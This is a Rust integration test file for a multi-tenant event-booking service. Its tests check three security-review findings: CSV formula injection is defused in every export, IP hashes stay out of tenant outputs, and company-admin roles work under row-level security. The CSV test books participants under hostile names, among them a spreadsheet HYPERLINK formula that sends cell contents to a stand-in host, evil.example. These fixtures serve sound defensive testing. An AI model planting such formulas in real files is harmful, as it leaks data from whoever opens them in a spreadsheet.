//! Findings of the security review (issue 15) that belong to no single capability: CSV
//! formula injection across every file the product writes (PRIV-5), IP hashes in what a
//! tenant gets (INPUT-2), and company-admin roles under row-level security (SEP-2).

use actix_web::http::StatusCode;
use anwesend::audit::{self, Action, Event};
use anwesend::csv_file::CsvFile;
use anwesend::offboarding::archive;
use anwesend::tenants::service as tenants;
use diesel::prelude::*;
use serde_json::json;

use crate::common::{test_app, TestApp};
use crate::fixtures::{book_confirmed, call, json_of, member, sign_in, venue};

/// The archive's tables of a tenant, as the offboarding download holds them.
fn archive_tables(app: &TestApp, scope: &anwesend::db::TenantScope) -> Vec<archive::Table> {
    app.state
        .db
        .tenant_read(scope, |tx| {
            let keys = tenants::keys(tx, &app.state.master)?;
            archive::tables(tx, &keys, &app.state.master)
        })
        .expect("archive tables")
}

/// Every cell of `csv` is safe to open in a spreadsheet; answers how many cells were
/// defused (a leading apostrophe before a formula character).
fn defused_cells(what: &str, csv: &[u8]) -> usize {
    let text = String::from_utf8_lossy(csv);
    let text = text.strip_prefix('\u{feff}').unwrap_or(&text);
    let mut reader = csv::ReaderBuilder::new().has_headers(false).comment(Some(b'#')).from_reader(text.as_bytes());
    let mut defused = 0;
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{what}: {e}"));
        for cell in record.iter() {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{what}: formula cell {cell:?}");
            if cell.strip_prefix('\'').is_some_and(|rest| rest.starts_with(['=', '+', '-', '@', '\t', '\r'])) {
                defused += 1;
            }
        }
    }
    defused
}

#[actix_web::test]
async fn priv_5_every_csv_the_product_writes_defuses_formulas() {
    let app = test_app();
    let a = app.tenant_with_admin("verein-a", "leitung@verein-a.example");
    let service = app.service().await;
    let v = venue(&app, &service, "verein-a", ("Anna Muster", "anna@example.org")).await;
    let names = ["=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Klick\")", "+1 Muster", "-2 Muster", "@SUM(A1) Muster"];
    for (n, name) in names.iter().enumerate() {
        let body = json!({ "name": name, "email": format!("formel{n}@example.org"), "consent": true });
        let (status, answer) = book_confirmed(&app, &service, "verein-a", &v.event, body, &format!("198.51.100.{}", 20 + n)).await;
        assert_eq!(status, StatusCode::OK, "{answer}");
    }
    // Values the forms refuse (control characters) can still reach the audit trail.
    app.state
        .db
        .tenant_tx(&a, |tx| {
            for id in ["\t=x", "\r=x"] {
                audit::record(tx, &app.ctx(), Event::new(Action::LocationUpdated, "location", Some(id)))?;
            }
            Ok(())
        })
        .expect("entries");

    for path in [format!("/api/v1/events/{}/bookings.csv", v.event), format!("/api/v1/event-sessions/{}/attendance.csv", v.session)] {
        let (status, _, csv) = call(&service, v.staff.request("GET", &path)).await;
        assert_eq!(status, StatusCode::OK, "{path}");
        assert_eq!(defused_cells(&path, &csv), names.len(), "{path}: {}", String::from_utf8_lossy(&csv));
    }
    let (status, _, csv) = call(&service, v.staff.request("GET", "/api/v1/audit/export?format=csv")).await;
    assert_eq!(status, StatusCode::OK);
    assert_eq!(defused_cells("audit export", &csv), 2, "{}", String::from_utf8_lossy(&csv));

    let tables = archive_tables(&app, &a);
    let defused = |name: &str| {
        let table = tables.iter().find(|t| t.name == name).unwrap_or_else(|| panic!("{name}"));
        defused_cells(name, &table.csv())
    };
    assert_eq!(defused("participants"), names.len());
    assert_eq!(defused("audit_entries"), 2);
    for table in &tables {
        defused_cells(table.name, &table.csv());
    }
}

#[actix_web::test]
async fn input_2_two_tenants_cannot_link_a_visitor_by_ip_hash() {
    let app = test_app();
    let a = app.tenant_with_admin("verein-a", "leitung@verein-a.example");
    let b = app.tenant_with_admin("verein-b", "leitung@verein-b.example");
    let service = app.service().await;
    // One visitor (one address) acts in both tenants.
    let mut outputs = Vec::new();
    for (scope, slug) in [(&a, "verein-a"), (&b, "verein-b")] {
        let admin = sign_in(&service, &format!("leitung@{slug}.example")).await;
        let (status, _, _) = call(&service, admin.request("POST", "/api/v1/locations").set_json(json!({ "name": "Halle" }))).await;
        assert_eq!(status, StatusCode::CREATED);
        for uri in ["/api/v1/audit?limit=200", "/api/v1/audit/export?format=csv", "/api/v1/audit/export?format=json"] {
            let (status, _, body) = call(&service, admin.request("GET", uri)).await;
            assert_eq!(status, StatusCode::OK, "{uri}");
            outputs.push((format!("{slug} {uri}"), String::from_utf8_lossy(&body).into_owned()));
        }
        for table in archive_tables(&app, scope) {
            outputs.push((format!("{slug} archive {}.csv", table.name), String::from_utf8_lossy(&table.csv()).into_owned()));
        }
    }
    let stored = |tenant_id: &str| -> Vec<String> {
        use anwesend::db::schema::audit_entries::dsl as e;
        let hashes: Vec<Option<Vec<u8>>> = e::audit_entries
            .filter(e::chain.eq(tenant_id))
            .filter(e::actor_type.eq("account"))
            .select(e::ip_hash)
            .load(&mut app.db.inspect())
            .expect("hashes");
        hashes.into_iter().flatten().map(hex::encode).collect()
    };
    let (in_a, in_b) = (stored(a.tenant_id()), stored(b.tenant_id()));
    let shared: Vec<&String> = in_a.iter().filter(|h| in_b.contains(h)).collect();
    assert!(!shared.is_empty(), "the chains hold the visitor under one hash: what a join across tenants would use");
    for (what, text) in &outputs {
        assert!(!shared.iter().any(|h| text.contains(h.as_str())), "{what} shows the platform-keyed IP hash");
        assert!(!text.contains("\"ip_hash\"") && !text.lines().next().unwrap_or_default().contains("ip_hash"), "{what}: {text}");
    }
}

#[actix_web::test]
async fn sep_2_company_admin_roles_can_be_assigned_under_rls() {
    // The app connects as the non-owner role under forced RLS on PostgreSQL (`common.rs`).
    let app = test_app();
    let a = app.tenant_with_admin("verein-a", "leitung@verein-a.example");
    let coach = member(&app, &a, "trainer@verein-a.example", "organiser", None);
    let service = app.service().await;
    let boss = sign_in(&service, "leitung@verein-a.example").await;
    let (status, _, company) = call(&service, boss.request("POST", "/api/v1/companies").set_json(json!({ "name": "Firma Nord" }))).await;
    assert_eq!(status, StatusCode::CREATED, "{}", json_of(&company));
    let company = json_of(&company)["id"].as_str().expect("company").to_owned();

    let invite = json!({ "email": "chefin@firma-nord.example", "role": "company_admin", "company_id": company });
    let (status, _, body) = call(&service, boss.request("POST", "/api/v1/invitations").set_json(invite)).await;
    assert_eq!(status, StatusCode::CREATED, "{}", json_of(&body));

    let roles = json!({ "roles": [{ "role": "company_admin", "company_id": company }] });
    let (status, _, body) = call(&service, boss.request("PUT", &format!("/api/v1/members/{coach}/roles")).set_json(roles)).await;
    assert_eq!(status, StatusCode::OK, "{}", json_of(&body));
    assert_eq!(json_of(&body)["roles"][0]["company_id"], json!(company));

    // A company of another tenant is no company here.
    let roles = json!({ "roles": [{ "role": "company_admin", "company_id": "firma-anderswo" }] });
    let (status, _, body) = call(&service, boss.request("PUT", &format!("/api/v1/members/{coach}/roles")).set_json(roles)).await;
    assert_eq!((status, json_of(&body)["code"].as_str()), (StatusCode::UNPROCESSABLE_ENTITY, Some("invalid_field")));
}

#[::core::prelude::v1::test]
fn formulas_are_defused_and_quoted() {
    let mut file = CsvFile::new(&["a", "b"]);
    file.row(["=1+1", "x,\"y\""]);
    assert_eq!(String::from_utf8(file.into_bytes()).unwrap_or_default(), "a,b\r\n'=1+1,\"x,\"\"y\"\"\"\r\n");
}
